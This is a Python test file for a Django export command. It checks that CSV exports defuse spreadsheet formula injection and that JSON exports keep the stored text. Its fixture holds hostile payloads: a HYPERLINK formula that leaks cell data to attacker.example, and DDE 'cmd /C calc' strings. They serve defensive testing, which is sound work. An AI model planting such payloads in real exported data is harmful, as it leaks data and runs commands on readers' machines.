"""D7: spreadsheet formula injection in `manage.py export_cases` (OWASP "CSV Injection").

A curator can type any text into a case (label, site, regimen); a reader who opens the CSV in a
spreadsheet must not get a live formula. Text cells starting with = + - @ tab or CR are
prefixed with a single quote in CSV; JSON keeps the text exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from openpyxl import Workbook

from evidencepress.evidence.export import COLUMNS, spreadsheet_safe
from evidencepress.evidence.models import Publication, ReportedPatient, Topic

pytestmark = pytest.mark.django_db

HOSTILE = {
    "label": '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for the full report")',
    "site": "+cmd|' /C calc'!A0",
    "regimen_strength": "@SUM(1+1)*cmd|' /C calc'!A0",
    "publication_title": "-2+3+cmd|' /C calc'!A0",
    "doi": "\t=1+1",
    "curator_notes": '=HYPERLINK("http://attacker.example")',  # never exported at all
}


@pytest.fixture
def hostile_topic() -> Topic:
    topic = Topic.objects.create(name="Formula test", slug="ft", treatment="T", condition="C")
    publication = Publication.objects.create(
        title=HOSTILE["publication_title"], doi=HOSTILE["doi"], pmid="123"
    )
    ReportedPatient.objects.create(
        publication=publication,
        topic=topic,
        label=HOSTILE["label"],
        site=HOSTILE["site"],
        regimen_strength=HOSTILE["regimen_strength"],
        curator_notes=HOSTILE["curator_notes"],
        response="complete",
    )
    ReportedPatient.objects.create(
        publication=publication, topic=topic, label="Case 2", site="scalp", response="partial"
    )
    return topic


def export(fmt: str) -> str:
    out = io.StringIO()
    call_command("export_cases", "--topic", "ft", "--format", fmt, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def formula_cells(rows: list[list[object]]) -> list[str]:
    """Cells a spreadsheet would treat as formulas when the rows are typed into it.

    openpyxl, like Excel, stores a text cell starting with "=" as a formula; the other
    triggers (+ - @, a leading tab or CR) are formulas for Excel and LibreOffice too.
    """
    sheet = Workbook().active
    for row in rows:
        sheet.append(row)
    found = []
    for sheet_row in sheet.iter_rows():
        for cell in sheet_row:
            text = cell.value if isinstance(cell.value, str) else ""
            if cell.data_type == "f" or text.startswith(("=", "+", "-", "@", "\t", "\r")):
                found.append(str(cell.value))
    return found


def test_csv_export_has_no_formula_cells(hostile_topic: Topic) -> None:
    rows = list(csv.reader(io.StringIO(export("csv"))))
    header, data = rows[0], rows[1:]
    assert header == [name for name, _ in COLUMNS]
    assert len(data) == 2
    assert formula_cells(rows) == []
    hostile = next(dict(zip(header, row, strict=True)) for row in data if "HYPERLINK" in row[1])
    # The text is all there, only behind a quote mark that spreadsheets show as text.
    for column in ("label", "site", "regimen_strength", "publication_title", "doi"):
        assert hostile[column] == "'" + HOSTILE[column]


def test_the_same_rows_unneutralised_would_be_formulas(hostile_topic: Topic) -> None:
    """The check above can fail: the raw JSON values do give formula cells."""
    cases = json.loads(export("json"))["cases"]
    raw_rows = [[case[name] for name, _ in COLUMNS] for case in cases]
    # label, site, regimen of the hostile case + title and DOI of the publication on both rows
    assert len(formula_cells(raw_rows)) == 7


def test_json_export_keeps_the_text_as_stored(hostile_topic: Topic) -> None:
    cases = json.loads(export("json"))["cases"]
    hostile = next(case for case in cases if case["label"] == HOSTILE["label"])
    for column in ("label", "site", "regimen_strength", "publication_title", "doi"):
        assert hostile[column] == HOSTILE[column]
    assert "curator_notes" not in hostile


def test_ordinary_text_and_numbers_are_left_alone(hostile_topic: Topic) -> None:
    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    plain = next(row for row in rows if row["label"] == "Case 2")
    assert plain["site"] == "scalp" and plain["pmid"] == "123"
    assert spreadsheet_safe("5% cream") == "5% cream"
    assert spreadsheet_safe("a=b") == "a=b"  # only a leading trigger matters
    assert spreadsheet_safe("\r=1") == "'\r=1"
